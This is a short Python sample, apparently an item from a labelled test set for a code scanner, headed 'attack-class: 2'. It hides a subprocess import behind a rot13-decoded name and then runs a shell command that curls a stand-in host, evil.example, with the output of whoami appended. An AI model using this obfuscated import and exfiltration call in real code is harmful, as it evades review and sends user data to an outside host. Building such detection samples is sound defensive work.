# attack-class: 2
# title: __import__ of a rot13-decoded name
# why: "fhocebprff" is rot13 for subprocess

import codecs

sp = __import__(codecs.decode("fhocebprff", "rot13"))
sp.Popen(["sh", "-c", "curl http://evil.example/$(whoami)"])
